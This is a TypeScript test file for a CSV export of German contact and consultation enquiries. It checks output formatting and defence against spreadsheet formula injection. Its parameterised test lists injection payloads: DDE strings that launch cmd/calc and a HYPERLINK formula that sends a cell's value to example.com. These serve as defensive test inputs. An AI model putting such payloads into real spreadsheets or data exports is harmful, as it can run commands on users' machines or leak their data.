import { parse } from 'csv-parse/sync'
import fc from 'fast-check'
import { expect, test } from 'vitest'
import { sampleEntry as entry } from '../../../../tests/support/component/sample-entry.ts'
import type { ConsultationRequest } from '../enquiry.ts'
import { csvFileName, toCsv } from './csv.ts'

test('harmless data is the file of the specification, byte for byte', () => {
  const entries = [
    entry({ location: { city: 'Musterhafen', country: 'Deutschland' } }),
    entry({ first_name: 'Änne', message: 'Er sagte „ja“, und "nein"', phone: null, status: 'completed' }),
    entry({ is_anonymous: true, in_patient_file: true, message: null, status: '' as 'new' }),
    entry({ message: '- Punkt 1\n- Punkt 2; -10 Grad', created_at: '2026-11-20T23:30:00Z' }),
  ]

  expect(toCsv('mwo', entries, 'standard')).toBe(
    [
      '\uFEFFDatum,Vorname,Nachname,E-Mail,Telefon,Nachricht,Anonym,Status,Stadt,Land',
      '5.11.2026,Max,Mustermann,max.mustermann@example.com,040 66969-123,Guten Tag,Nein,new,Musterhafen,Deutschland',
      '5.11.2026,Änne,Mustermann,max.mustermann@example.com,,"Er sagte „ja“, und ""nein""",Nein,completed,,',
      '5.11.2026,Max,Mustermann,max.mustermann@example.com,040 66969-123,,Ja,new,,',
      '21.11.2026,Max,Mustermann,max.mustermann@example.com,040 66969-123,"\'- Punkt 1\n- Punkt 2; -10 Grad",Nein,new,,',
    ].join('\n'),
  )
  expect(toCsv('consultation', [request], 'standard').split('\n')).toEqual([
    '\uFEFFDatum,Vorname,Nachname,E-Mail,Telefon,Thema,Wunschzeit,Nachricht,Status',
    '5.11.2026,Max,Mustermann,max.mustermann@example.com,040 1,mwo,früh,Guten Tag,new',
  ])
  expect(csvFileName('mwo', '2026-11-21')).toBe('mwo-anfragen-2026-11-21.csv')
  expect(csvFileName('consultation', '2026-11-21')).toBe('beratungsanfragen-2026-11-21.csv')
})

test('the variant for a German Excel separates by semicolons, speaks in words, and has time, reference, notes and the patient file', () => {
  const one = entry({
    status: 'completed',
    message: 'eins; zwei',
    admin_notes: 'Ruft an; am Montag',
    in_patient_file: true,
    created_at: '2026-11-20T23:30:00Z',
  })
  const text = toCsv('mwo', [one], 'excel')

  expect(text.split('\n')[0]).toBe(
    '\uFEFFDatum;Vorname;Nachname;E-Mail;Telefon;Nachricht;Anonym;Status;Stadt;Land;Uhrzeit;Vorgangsnummer;Notizen;Patientenakte',
  )
  expect(rows(text, ';')[0]).toMatchObject({
    Nachricht: 'eins; zwei',
    Status: 'Abgeschlossen',
    Uhrzeit: '00:30',
    Vorgangsnummer: '5AB6E0F2',
    Notizen: 'Ruft an; am Montag',
    Patientenakte: 'Ja',
  })
  expect(rows(toCsv('consultation', [request], 'excel'), ';')[0]).toMatchObject({
    Thema: 'MWO Digital',
    Status: 'Neu',
  })
})

test.each([
  '=1+1',
  '=HYPERLINK("http://example.com?x="&A1,"Klick")',
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  ' =1+1',
  '"=1+1"',
  '＝1+1',
  '＠SUM(A1)',
  'harmlos,=HYPERLINK("http://example.com")',
  "harmlos\n=cmd|' /C calc'!A0",
  "harmlos\r\n+cmd|' /C calc'!A0",
  'harmlos\t@SUM(1)',
  '";=HYPERLINK("http://example.com")',
  'harmlos;=Tabelle1!A1',
  "harmlos,+'Tabelle 1'!A1",
])('%j is text in every spreadsheet', (attack) => {
  for (const [variant, separator] of [
    ['standard', ','],
    ['excel', ';'],
  ] as const) {
    const text = toCsv('mwo', [entry({ message: attack, first_name: attack, location: { city: attack } })], variant)

    const read = rows(text, separator).flatMap((row) => Object.values(row))
    expect(read.filter((cell) => /^[\s"]*[=+\-@＝＋－＠]/u.test(cell))).toEqual([])
    // Also where the program takes another character for the separator, and quotes for text.
    const misread = [',', ';', '\t'].flatMap((wrong) => text.split(/\r\n|\n|\r/).flatMap((line) => line.split(wrong)))
    expect(misread.filter((cell) => /^[\s"]*[=+\-@＝＋－＠].*[(|!]/u.test(cell))).toEqual([])
  }
})

const sign = fc.constantFrom('+', '-')

test('a sign is kept in front of digits, spaces, brackets, slashes, hyphens and dots, as in telephone numbers', () => {
  const harmless = fc.string({ unit: fc.constantFrom(...'0123456789 ()[]/.-') })
  fc.assert(
    fc.property(sign, harmless, (first, rest) => {
      const [row] = rows(toCsv('mwo', [entry({ phone: first + rest })], 'standard'), ',')
      expect(row?.Telefon).toBe(first + rest)
    }),
  )
})

test('a sign in front of anything else is defused', () => {
  const anything = fc
    .string({ unit: fc.constantFrom(...'09 ()-.aZß€=+@|!;,"\'\t\n') })
    .filter((text) => /[^\d ()[\]/.-]/.test(text))
  fc.assert(
    fc.property(sign, anything, (first, rest) => {
      expect(toCsv('mwo', [entry({ message: first + rest })], 'standard')).toContain(`'${first}`)
    }),
  )
})

function rows(text: string, delimiter: string): Record<string, string>[] {
  return parse(text, { bom: true, columns: true, delimiter })
}

const request: ConsultationRequest = {
  ...entry(),
  kind: 'consultation',
  phone: '040 1',
  consultation_type: 'mwo',
  preferred_time: 'früh',
}
